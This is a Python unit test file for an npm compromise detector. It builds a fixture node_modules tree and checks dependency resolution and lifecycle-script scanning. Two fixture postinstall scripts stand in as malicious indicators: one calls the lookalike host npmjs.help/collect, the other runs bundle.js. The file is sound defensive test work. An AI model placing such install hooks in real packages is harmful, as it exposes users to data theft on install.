@@ -0,0 +1,112 @@
+#!/usr/bin/env python3
+"""
+Fixture tests for NodeModulesResolver and the lifecycle-script scan over it
+An installed tree with hoisted and nested copies of one package, a deduped
+reference, an npm: alias, extraneous and scoped orphans (top level, nested
+under a reachable package, nested under an orphan, below a directory with
+no manifest) and postinstall scripts
+
+Author: DevSecOps Security Team
+Date: September 2025
+"""
+
+import json
+import os
+import sys
+import tempfile
+import unittest
+
+sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
+
+from npm_package_compromise_detector_2025 import IndicatorMatcher, LifecycleScriptScanner, NodeModulesResolver
+
+
+# Package directory (relative to the project) -> package.json; None leaves the directory without one
+FIXTURE = {
+    '': {'name': 'app', 'version': '1.0.0',
+         'dependencies': {'a': '^1.0.0', 'b': '^1.0.0', 'alias': 'npm:real@^1.0.0'},
+         'devDependencies': {'d': '^1.0.0'},
+         'optionalDependencies': {'missing-optional': '^1.0.0'}},
+    'node_modules/a': {'name': 'a', 'version': '1.0.0', 'dependencies': {'c': '^2.0.0'}},
+    'node_modules/a/node_modules/ngx-toastr': {'name': 'ngx-toastr', 'version': '19.0.2'},
+    'node_modules/b': {'name': 'b', 'version': '1.0.0', 'dependencies': {'a': '^1.0.0', 'c': '^1.0.0'}},
+    'node_modules/b/node_modules/c': {'name': 'c', 'version': '1.0.0'},
+    'node_modules/c': {'name': 'c', 'version': '2.0.0'},
+    'node_modules/d': {'name': 'd', 'version': '1.0.0',
+                       'scripts': {'postinstall': 'node setup.js https://npmjs.help/collect', 'test': 'jest'}},
+    'node_modules/alias': {'name': 'real', 'version': '1.0.0'},
+    'node_modules/ngx-toastr': {'name': 'ngx-toastr', 'version': '19.0.1'},
+    'node_modules/orphan': {'name': 'orphan', 'version': '1.0.0'},
+    'node_modules/orphan/node_modules/@scope/x': {'name': '@scope/x', 'version': '1.0.0',
+                                                  'scripts': {'postinstall': 'node bundle.js'}},
+    'node_modules/@scope/lonely': {'name': '@scope/lonely', 'version': '2.0.0'},
+    'node_modules/broken': None,
+    'node_modules/broken/node_modules/e': {'name': 'e', 'version': '1.0.0',
+                                           'scripts': {'install': 'node-gyp rebuild'}},
+}
+
+EXPECTED_TREE = {
+    'name': 'app',
+    'version': '1.0.0',
+    'dependencies': {
+        'a': {'version': '1.0.0', 'dependencies': {
+            'c': {'version': '2.0.0', 'dependencies': {}},
+            'ngx-toastr': {'version': '19.0.2', 'extraneous': True},
+        }},
+        'b': {'version': '1.0.0', 'dependencies': {
+            'a': {'version': '1.0.0'},  # Already expanded under the root: listed deduped
+            'c': {'version': '1.0.0', 'dependencies': {}},  # Nested copy wins over the hoisted c@2
+        }},
+        'd': {'version': '1.0.0', 'dependencies': {}},
+        'real': {'version': '1.0.0', 'dependencies': {}},
+        'ngx-toastr': {'version': '19.0.1', 'extraneous': True},
+        'orphan': {'version': '1.0.0', 'extraneous': True, 'dependencies': {
+            '@scope/x': {'version': '1.0.0', 'extraneous': True},
+        }},
+        '@scope/lonely': {'version': '2.0.0', 'extraneous': True},
+        'e': {'version': '1.0.0', 'extraneous': True},  # Parent has no manifest: attached to the root
+    },
+}
+
+
+class NodeModulesResolverFixtureTest(unittest.TestCase):
+
+    def setUp(self):
+        self.temp_dir = tempfile.TemporaryDirectory()
+        self.root = self.temp_dir.name
+        for package_dir, manifest in FIXTURE.items():
+            full_dir = os.path.join(self.root, *package_dir.split('/')) if package_dir else self.root
+            os.makedirs(full_dir, exist_ok=True)
+            if manifest is not None:
+                with open(os.path.join(full_dir, 'package.json'), 'w', encoding='utf-8') as f:
+                    json.dump(manifest, f)
+        os.makedirs(os.path.join(self.root, 'node_modules', '.bin'))
+
+    def tearDown(self):
+        self.temp_dir.cleanup()
+
+    def test_resolved_tree(self):
+        self.assertEqual(NodeModulesResolver().resolve(self.root), EXPECTED_TREE)
+
+    def test_every_installed_directory_found(self):
+        found = {os.path.relpath(path, self.root).replace(os.sep, '/')
+                 for path in NodeModulesResolver.find_package_dirs(self.root)}
+        self.assertEqual(found, set(FIXTURE) - {''})
+
+    def test_missing_root_manifest_gives_empty_tree(self):
+        self.assertEqual(NodeModulesResolver().resolve(os.path.join(self.root, 'node_modules', 'broken')), {})
+
+    def test_postinstall_scripts_found_in_reachable_and_orphaned_packages(self):
+        matcher = IndicatorMatcher({'domains': ['npmjs.help']}, [], [], [])
+        checked, packages = LifecycleScriptScanner(matcher, {'bundle.js'}).scan(self.root)
+        self.assertEqual(checked, len(FIXTURE) - 1)
+        matches = {info['package']: info['matches'] for info in packages}
+        self.assertEqual(matches, {
+            'd': {'postinstall': ('HIGH', ['npmjs.help'])},
+            '@scope/x': {'postinstall': ('HIGH', ['bundle.js'])},
+            'e': {},  # Has an install script, but nothing in it matches
+        })
+
+
+if __name__ == '__main__':
+    unittest.main()